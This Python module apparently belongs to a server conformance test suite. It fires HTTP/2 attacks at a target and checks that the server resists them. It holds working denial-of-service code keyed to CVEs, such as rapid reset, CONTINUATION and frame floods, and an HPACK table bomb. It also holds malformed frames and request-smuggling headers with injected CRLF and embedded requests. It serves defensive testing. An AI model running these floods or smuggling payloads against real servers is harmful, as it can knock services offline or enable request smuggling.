"""HTTP/2: floods of frames, frames that contradict the protocol, and requests that a proxy could translate wrongly."""

from __future__ import annotations

from collections.abc import Callable

from conformance.attacks.target import Target
from conformance.attacks.wire import hpack
from conformance.attacks.wire.grpc import HEALTH, call_headers
from conformance.attacks.wire.http2 import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PRIORITY,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    Frame,
    frame,
)
from conformance.claim import Claim, InapplicableError, claims_into, hold

ATTACKS: list[Claim[Target]] = []
attack = claims_into(ATTACKS)
FLOOD = 5000
SETTLE_S = 2.0  # the time in which a server's reaction to an invalid frame is expected


def opened(target: Target, settings: bytes = b"") -> Connection:
    """Return a connection. Raise InapplicableError if the server doesn't speak HTTP/2 in clear text."""
    address = target.grpc if target.has_grpc else target.address
    connection = Connection(address, target.timeout_s, settings)
    if connection.until(lambda received: received.kind == SETTINGS) is None:
        connection.__exit__(None, None, None)
        raise InapplicableError("the server does not speak HTTP/2 without TLS")
    return connection


def request(target: Target, *extra: tuple[str, str]) -> list[tuple[str, str]]:
    """Return the headers of a gRPC health check, which a server without gRPC rejects."""
    return call_headers(target.grpc, HEALTH, extra)


def ending(connection: Connection, timeout_s: float = SETTLE_S) -> str:
    """Return how the server ended a stream or the connection, or an empty text if it did not."""
    last = connection.until(lambda received: received.kind in {GOAWAY, RESET}, timeout_s)
    if last is None:
        return "closed" if connection.is_closed else ""
    code = int.from_bytes(last.payload[4:8] if last.kind == GOAWAY else last.payload, "big")
    return f"{'GOAWAY' if last.kind == GOAWAY else 'RST_STREAM'} with code {code}"


def _flood(*frames: bytes, count: int = FLOOD) -> Callable[[Target], str]:
    """Return an attack that repeats frames. A server may end the connection or bear them."""

    def attempt(target: Target) -> str:
        with opened(target) as connection:
            for _ in range(count // 100):
                connection.send(b"".join(frames) * 100)
            target.serve_others("while frames arrive")
            return ending(connection) or "the frames were borne"

    return attempt


for name, what, flood in (
    ("settings", "SETTINGS", frame(SETTINGS)),
    ("pings", "PING", frame(PING, payload=bytes(8))),
    ("priorities", "PRIORITY", frame(PRIORITY, 0, 1, (3).to_bytes(4, "big") + b"\0")),
    ("windows", "WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))),
    ("acks", "unasked SETTINGS acknowledgement", frame(SETTINGS, ACK)),
    ("unknown", "unknown", frame(0xEE, 0xFF, 0, b"abc")),
):
    attack(f"http2.{name}", f"{FLOOD:,} {what} frames don't block other clients", "CVE-2019-9512")(_flood(flood))


@attack("http2.resets", "2,000 requests that are reset at once don't block other clients", "CVE-2023-44487")
def _(target: Target) -> str:
    block = hpack.encoded(request(target))
    with opened(target) as connection:
        for start in range(1, 4000, 200):
            connection.send(
                b"".join(
                    frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, CANCEL)
                    for stream in range(start, start + 200, 2)
                )
            )
        target.serve_others("while streams are reset")
        return ending(connection) or "the resets were borne"


@attack("http2.provoked", "1,000 requests that provoke a reset don't block other clients", "CVE-2025-8671")
def _(target: Target) -> str:
    block = hpack.encoded(request(target))
    with opened(target) as connection:
        for stream in range(1, 2000, 2):
            zero = frame(WINDOW_UPDATE, 0, stream, bytes(4))  # invalid, so that the server resets the stream
            connection.send(frame(HEADERS, END_HEADERS, stream, block) + zero)
        target.serve_others("while streams are reset")
        return ending(connection) or "the requests were borne"


@attack("http2.continuation", "Headers that never end, of 8 MiB in CONTINUATION frames, are cut off", "CVE-2024-27316")
def _(target: Target) -> str:
    with opened(target) as connection:
        connection.send(frame(HEADERS, 0, 1, hpack.encoded(request(target))))
        for each in range(512):
            connection.send(frame(CONTINUATION, 0, 1, hpack.literal(f"x-{each}", "a" * 16_000)))
            if connection.is_closed:
                break
        seen = ending(connection, target.timeout_s)
        hold(seen, "8 MiB of headers were accepted")
        return seen


@attack("http2.empty", f"{FLOOD:,} empty CONTINUATION frames are cut off or borne", "CVE-2024-27316")
def _(target: Target) -> str:
    with opened(target) as connection:
        connection.send(frame(HEADERS, 0, 1, hpack.encoded(request(target))) + frame(CONTINUATION, 0, 1) * FLOOD)
        target.serve_others("while frames arrive")
        return ending(connection) or "the frames were borne"


@attack("http2.data", f"{FLOOD:,} empty DATA frames in a request don't block other clients", "CVE-2019-9518")
def _(target: Target) -> str:
    with opened(target) as connection:
        connection.begin(1, request(target))
        connection.send(frame(DATA, 0, 1) * FLOOD)
        target.serve_others("while frames arrive")
        return ending(connection) or "the frames were borne"


@attack("http2.table", "A header of 4 kB that is repeated 8,000 times from the table is cut off", "CVE-2016-6581")
def _(target: Target) -> str:
    with opened(target) as connection:
        block = hpack.encoded(request(target)) + hpack.literal("x-a", "b" * 4000, is_indexed=True)
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block + hpack.integer(62, 7, 0x80) * 8000))
        seen = ending(connection, target.timeout_s) or _rejection(connection, 1)
        hold(seen, "32 MB of headers were accepted")
        return seen


@attack("http2.windows_zero", "100 requests whose answers can't be sent don't block other clients", "CVE-2019-9511")
def _(target: Target) -> str:
    window = (4).to_bytes(2, "big") + bytes(4)  # no byte of a stream's data may be sent
    with opened(target, window) as connection:
        for stream in range(1, 201, 2):
            connection.begin(stream, request(target))
            connection.send(frame(DATA, END_STREAM, stream, bytes(5)))
        target.serve_others("while answers wait")
        return ending(connection) or "the requests were borne"


@attack("http2.streams", "2,000 requests that are never completed don't block other clients", "CWE-400")
def _(target: Target) -> str:
    block = hpack.encoded(request(target))
    with opened(target) as connection:
        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 4001, 2)))
        target.serve_others("while streams are open")
        return ending(connection) or "the requests were borne"


def _invalid(content: bytes) -> Callable[[Target], str]:
    """Return an attack that sends bytes for which the protocol requires an error."""

    def attempt(target: Target) -> str:
        with opened(target) as connection:
            connection.send(content)
            seen = ending(connection, target.timeout_s)
            hold(seen, "the frames were accepted")
            return seen

    return attempt


WINDOW = (2**31 - 1).to_bytes(4, "big")
for name, what, content, where in (
    ("size", "A frame of 1 MiB", frame(DATA, 0, 0, bytes(2**20)), "RFC 9113, 4.2"),
    ("stream_zero", "Data without a stream", frame(DATA, 0, 0, b"a"), "RFC 9113, 6.1"),
    ("even", "A request on a stream of the server", frame(HEADERS, END_HEADERS, 2, b"\x83"), "RFC 9113, 5.1.1"),
    ("overflow", "A window beyond 31 bits", frame(WINDOW_UPDATE, 0, 0, WINDOW) * 2, "RFC 9113, 6.9.1"),
    ("ping_size", "A ping of 3 bytes", frame(PING, payload=b"abc"), "RFC 9113, 6.7"),
    ("settings_size", "Settings of 5 bytes", frame(SETTINGS, payload=bytes(5)), "RFC 9113, 6.5"),
    ("hpack", "Headers with an index that no table has", frame(HEADERS, 5, 1, b"\xff\xff\xff\x7f"), "RFC 7541, 2.3.3"),
    (
        "interleaved",
        "A ping within headers",
        frame(HEADERS, 0, 1, b"\x83") + frame(PING, 0, 0, bytes(8)),
        "RFC 9113, 6.10",
    ),
):
    attack(f"http2.{name}", f"{what} ends the connection or is refused", where)(_invalid(content))


def _rejection(connection: Connection, stream: int) -> str:
    """Return the status with which a request was rejected, or how it ended otherwise; empty if it was not."""

    def is_end(received: Frame) -> bool:
        is_mine = received.stream == stream and (received.kind == RESET or bool(received.headers))
        return received.kind == GOAWAY or is_mine

    last = connection.until(is_end)
    if last is None:
        return "closed" if connection.is_closed else ""
    names = dict(reversed(last.headers))
    if ":status" in names:
        status = names[":status"]
        is_ok = status == "200" and names.get("grpc-status", "") in {"", "0"}
        return "" if is_ok else f"status {status}, grpc-status {names.get('grpc-status')}"
    return "GOAWAY" if last.kind == GOAWAY else "RST_STREAM"


def _headers(*extra: tuple[str, str], body: bytes = bytes(5)) -> Callable[[Target], str]:
    """Return an attack that sends a request with headers that HTTP/2 forbids."""

    def attempt(target: Target) -> str:
        with opened(target) as connection:
            connection.begin(1, request(target, *extra))
            connection.send(frame(DATA, END_STREAM, 1, body))
            seen = _rejection(connection, 1)
            hold(seen, "the request was accepted")
            return seen

    return attempt


for name, what, extra in (
    ("coding", "with a transfer coding", ("transfer-encoding", "chunked")),
    ("connection", "with a header of the connection", ("connection", "keep-alive")),
    ("length", "whose length differs from its data", ("content-length", "50")),
    ("uppercase", "with a header in capitals", ("X-Upper", "a")),
    ("line", "with line breaks in a header", ("x-a", "b\r\ntransfer-encoding: chunked")),
    ("name", "with a colon and a space in a header's name", ("x-a: b", "c")),
    ("path", "with a space and a line break in its path", (":path", "/a HTTP/1.1\r\nx: y")),
    ("pseudo", "with an unknown pseudo header", (":unknown", "a")),
    ("method", "whose method holds another request", (":method", "GET / HTTP/1.1\r\nhost: a\r\n\r\nPOST")),
):
    attack(f"http2.{name}", f"A request {what} is rejected", "RFC 9113, 8.2")(_headers(extra))
